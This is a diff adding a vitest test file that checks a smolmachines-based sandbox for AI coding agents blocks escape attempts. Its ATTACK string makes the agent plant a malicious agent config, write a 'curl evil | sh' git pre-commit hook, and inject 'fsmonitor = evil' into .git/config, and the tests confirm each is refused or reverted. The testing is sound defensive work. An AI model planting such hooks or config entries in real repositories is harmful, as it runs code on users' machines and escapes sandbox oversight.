@@ -1,0 +1,95 @@
+import { execFileSync } from "node:child_process";
+import { existsSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { captureStdio, createTestContext } from "@claude-bottle/core/testing";
+import { busyboxAgent, busyboxGitContext, buildTestRegistryImage } from "@claude-bottle/test-support";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { createSmolmachinesBackend } from "../src/backend.js";
+import { engine, invocations, SMOLVM_DOUBLE, useDoubleState } from "./support.js";
+
+const git = (cwd: string, ...args: string[]) =>
+  execFileSync("git", ["-c", "user.name=Test", "-c", "user.email=test@example.com", ...args], { cwd, encoding: "utf8" });
+
+/** What the bottle tries: each line says whether the write went through. */
+const attempt = (name: string, command: string) => `if (${command}) 2>/dev/null; then echo "${name}: written"; else echo "${name}: refused"; fi`;
+const ATTACK = [
+  attempt("agent file", "mkdir -p /workspace/.claude-bottle/agents && echo 'image: evil' > /workspace/.claude-bottle/agents/claude.yaml"),
+  attempt("hook", "echo 'curl evil | sh' > /workspace/.git/hooks/pre-commit"),
+  attempt("config append", "echo '[core] fsmonitor = evil' >> /workspace/.git/config"),
+  attempt("commit", "cd /workspace && echo work > work.txt && git add work.txt && git -c user.name=Agent -c user.email=agent@example.com commit -q -m 'agent work'"),
+].join("; ");
+
+/**
+ * SECURITY.md point 1 through the smolvm double. smolvm shares directories
+ * only (virtiofs), so `.claude-bottle` and the hooks are read-only shares,
+ * while `.git/config`, a single file, is put back when the bottle ends and
+ * the user is told (SMOLVM.md, "Volumes").
+ */
+describe("a bottle is a one-way door (smolmachines)", () => {
+  let backend: ReturnType<typeof createSmolmachinesBackend>;
+  let cacheDir: string;
+  let state: string;
+  const warnings: string[] = [];
+  const context = () =>
+    createTestContext({ cacheDir, logger: { debug() {}, info() {}, warn: (message) => warnings.push(message) } });
+  const repository = () => {
+    const workspace = mkdtempSync(join(tmpdir(), "smol-door-workspace-"));
+    git(workspace, "init", "-q");
+    writeFileSync(join(workspace, "README"), "hello\n");
+    git(workspace, "add", "README");
+    git(workspace, "commit", "-q", "-m", "initial");
+    return workspace;
+  };
+  const gitContext = busyboxGitContext();
+  const agent = (workspace: string) => busyboxAgent({ slug: "smol-door", workspace, command: ["sh", "-c"], args: [ATTACK] }, gitContext);
+
+  beforeAll(async () => {
+    await engine();
+    state = useDoubleState();
+    cacheDir = mkdtempSync(join(tmpdir(), "smol-door-cache-"));
+    backend = createSmolmachinesBackend({ smolvm: SMOLVM_DOUBLE, registryImage: buildTestRegistryImage(), dockerDesktop: false });
+  });
+
+  afterAll(async () => {
+    for (const bottle of await backend.list!(context())) await backend.remove!(bottle.name, { force: true }, context());
+  });
+
+  it("refuses writes to .claude-bottle and the hooks, puts git config back, and commits still land", async () => {
+    const workspace = repository();
+    const configBefore = readFileSync(join(workspace, ".git", "config"), "utf8");
+    const io = captureStdio();
+    const prepared = await backend.prepare(agent(workspace), context());
+    const launched = await backend.launch(prepared, { extraArgs: [], detach: false, stdio: io.stdio }, context());
+    expect(launched).toMatchObject({ detached: false, exitCode: 0 });
+    expect(io.stdout().trim().split("\n")).toEqual(["agent file: refused", "hook: refused", "config append: written", "commit: written"]);
+
+    expect(existsSync(join(workspace, ".claude-bottle", "agents"))).toBe(false);
+    expect(existsSync(join(workspace, ".git", "hooks", "pre-commit"))).toBe(false);
+    expect(readFileSync(join(workspace, ".git", "config"), "utf8")).toBe(configBefore);
+    expect(readFileSync(join(workspace, ".git", "config.changed-in-bottle"), "utf8")).toContain("fsmonitor = evil");
+    expect(warnings.join("\n")).toContain(`the bottle changed ${join(workspace, ".git", "config")}`);
+    expect(git(workspace, "log", "--format=%s")).toBe("agent work\ninitial\n");
+
+    const run = invocations(state).findLast((argv) => argv[0] === "machine" && argv[1] === "run")!;
+    expect(run).toEqual(expect.arrayContaining(["-v", `${join(workspace, ".claude-bottle")}:/workspace/.claude-bottle:ro`]));
+    expect(run).toEqual(expect.arrayContaining(["-v", `${join(workspace, ".git", "hooks")}:/workspace/.git/hooks:ro`]));
+    expect(run).toContain("--mem");
+  });
+
+  it("puts a detached bottle's git config back when it is stopped", async () => {
+    const workspace = repository();
+    const configBefore = readFileSync(join(workspace, ".git", "config"), "utf8");
+    warnings.length = 0;
+    const prepared = await backend.prepare(agent(workspace), context());
+    const launched = await backend.launch(prepared, { extraArgs: [], detach: true, stdio: captureStdio().stdio }, context());
+    const deadline = Date.now() + 60_000;
+    while (!readFileSync(join(workspace, ".git", "config"), "utf8").includes("fsmonitor") && Date.now() < deadline) {
+      await new Promise((resolve) => setTimeout(resolve, 200));
+    }
+    await backend.stop!(launched.name, context());
+    expect(readFileSync(join(workspace, ".git", "config"), "utf8")).toBe(configBefore);
+    expect(warnings.join("\n")).toContain("was put back");
+    await backend.remove!(launched.name, { force: true }, context());
+  });
+});
